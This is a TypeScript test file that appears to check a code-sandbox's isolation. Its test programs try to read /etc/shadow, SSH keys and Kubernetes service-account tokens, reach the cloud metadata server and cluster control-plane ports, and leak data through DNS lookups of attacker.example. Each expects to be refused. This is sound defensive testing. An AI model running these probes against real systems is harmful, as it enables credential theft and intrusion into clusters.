import { attempts, refused } from './attempts.ts';
import { type Program, succeeded, within } from './program.ts';

const quick = within(4);
const unreadable = {
  shadow: 'open("/etc/shadow").read()',
  home: 'os.listdir("/root")',
  keys: 'os.listdir("/root/.ssh")',
  kubelet: 'os.listdir("/var/lib/kubelet")',
  logs: 'os.listdir("/var/log/pods")',
  containerd: 'socket.socket(socket.AF_UNIX).connect("/run/containerd/containerd.sock")',
  docker: 'socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock")',
};
const tokens = {
  token: 'open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()',
  run: 'open("/run/secrets/kubernetes.io/serviceaccount/token").read()',
  eks: 'open("/var/run/secrets/eks.amazonaws.com/serviceaccount/token").read()',
  google: 'os.listdir("/var/run/secrets")',
};
/** A name resolves nowhere, an address answers nobody; each within a second. */
const reach = `
import concurrent.futures, socket, struct
def reach(address):
    host, port = address
    try:
        socket.create_connection((host, port), 1).close()
        return "reached"
    except OSError as error: return type(error).__name__
def nodes():
    with open("/proc/net/route") as routes:
        for _, network, gateway, *_ in (line.split() for line in list(routes)[1:] if line.strip()):
            # Without a gateway the node is the first address of the pods' network.
            address = int(gateway, 16) or int(network, 16) | 1 << 24
            yield socket.inet_ntoa(struct.pack("<L", address))
def tell(addresses):
    with concurrent.futures.ThreadPoolExecutor(16) as pool:
        for address, seen in zip(addresses, pool.map(reach, addresses)): print(*address, seen)
`;
const nothingReached = { like: [/^(\S+ \d+ \w+\n)+$/], unlike: [/reached/] };

/** What a program as WebAssembly may ask for and there is none of. */
const hostThings = {
  python: [
    'open("/etc/passwd")',
    'open("/proc/self/environ")',
    'open("../../../etc/passwd")',
    'os.fork()',
    'os.system("id")',
    'os.kill(1, 9)',
    'subprocess.run(["id"])',
    'socket.create_connection(("127.0.0.1", 16443), 1)',
    'socket.getaddrinfo("localhost", 80)',
    'threading.Thread(target=print).start()',
    '__import__("ctypes")',
    '__import__("mmap").mmap(-1, 1 << 20)',
  ],
  javascript: [
    `require('node:child_process')`,
    `require('node:net')`,
    `require('node:worker_threads')`,
    `require('node:fs').readFileSync('/etc/passwd')`,
    `require('node:fs').readFileSync('/proc/self/environ')`,
    `process.binding('fs')`,
    `fetch('http://127.0.0.1:16443')`,
    `process.kill(1)`,
    `new Worker('x')`,
    `new WebAssembly.Memory({ initial: 1 })`,
  ],
} as const;

/** Programs that look for secrets, and for somebody to talk to. */
export const secretPrograms: readonly Program[] = [
  {
    threat: 28,
    name: 'everything of the host that Python may ask for',
    language: 'python',
    code: `
import os, socket, subprocess, sys, threading
for source in ${JSON.stringify(hostThings.python)}:
    try: print("got", source, eval(source))
    except Exception: print("refused")`,
    expected: { wasm: { endings: succeeded, stdout: { is: 'refused\n'.repeat(hostThings.python.length) }, ...quick } },
  },
  {
    threat: 28,
    name: 'everything of the host that JavaScript may ask for',
    language: 'javascript',
    code: `
for (const source of ${JSON.stringify(hostThings.javascript)}) {
  try { console.log('got', source, (0, eval)(source)) } catch { console.log('refused') }
}`,
    expected: {
      wasm: { endings: succeeded, stdout: { is: 'refused\n'.repeat(hostThings.javascript.length) }, ...quick },
    },
  },
  {
    threat: 28,
    name: 'reads of what belongs to the system',
    language: 'python',
    code: attempts(unreadable),
    expected: {
      kubernetes: { endings: succeeded, stdout: refused(Object.keys(unreadable), 'EACCES|EPERM|ENOENT'), ...quick },
    },
  },
  {
    threat: 28,
    name: "the supervisor's environment and descriptors",
    language: 'javascript',
    code: `
const { readFileSync, readdirSync } = require('node:fs');
const names = readFileSync('/proc/1/environ', 'latin1').split('\\0').filter(Boolean).map((entry) => entry.split('=')[0]).sort();
console.log(...names.filter((name) => !name.startsWith('KUBERNETES_')));
console.log(...readdirSync('/execution').sort());`,
    expected: {
      kubernetes: {
        endings: succeeded,
        stdout: {
          like: [/^HOME( \w+)*\n\S+ \.\.data bundle supervisor\.mjs work-files\.cjs\n$/],
          unlike: [/TOKEN|SECRET|PASSWORD|KEY|CREDENTIAL/i],
        },
        ...quick,
      },
    },
  },
  {
    threat: 29,
    name: 'the token of a service account',
    language: 'python',
    code: attempts(tokens),
    expected: { kubernetes: { endings: succeeded, stdout: refused(Object.keys(tokens), 'ENOENT'), ...quick } },
  },
  {
    threat: 30,
    name: 'the environment',
    language: 'python',
    code: 'import os\nprint(*(f"{name}={value}" for name, value in sorted(os.environ.items())), sep="\\n")',
    request: { env: { GIVEN: 'value' } },
    expected: {
      kubernetes: {
        endings: succeeded,
        stdout: {
          like: [
            /^GIVEN=value\nHOME=\/work\nLANG=C\.UTF-8\nLOGNAME=sandbox\nMPLCONFIGDIR=\S+\nPATH=\S+\nPYTHONUNBUFFERED=1\nTMPDIR=\/work\nUSER=sandbox\n$/,
          ],
        },
        ...quick,
      },
      wasm: { endings: succeeded, stdout: { is: 'GIVEN=value\n' }, ...quick },
    },
  },
  {
    threat: 31,
    name: 'the metadata server',
    language: 'python',
    code: `${reach}
tell([(host, port) for host in ("169.254.169.254", "metadata.google.internal", "fd20:ce::254", "169.254.20.10") for port in (53, 80, 988)])`,
    expected: { kubernetes: { endings: succeeded, stdout: nothingReached, ...within(6) } },
  },
  {
    threat: 32,
    name: 'the API server, the kubelet, etcd, the node',
    language: 'python',
    code: `${reach}
service = "kubernetes.default.svc"
ports = (22, 443, 2379, 2380, 6443, 10248, 10250, 10255, 10256, 16443)
tell([(service, 443), *((node, port) for node in nodes() for port in ports)])`,
    expected: { kubernetes: { endings: succeeded, stdout: nothingReached, ...within(6) } },
  },
  {
    threat: 34,
    name: 'names that carry data',
    language: 'python',
    code: `
import socket, time
began = time.monotonic()
for name in ("c2VjcmV0.attacker.example", "kubernetes.default.svc.cluster.local", "localhost.attacker.example"):
    try: print(socket.getaddrinfo(name, 80))
    except socket.gaierror: print("unknown")
print(time.monotonic() - began < 2)`,
    expected: {
      kubernetes: { endings: succeeded, stdout: { is: 'unknown\nunknown\nunknown\nTrue\n' }, ...within(4) },
    },
  },
];
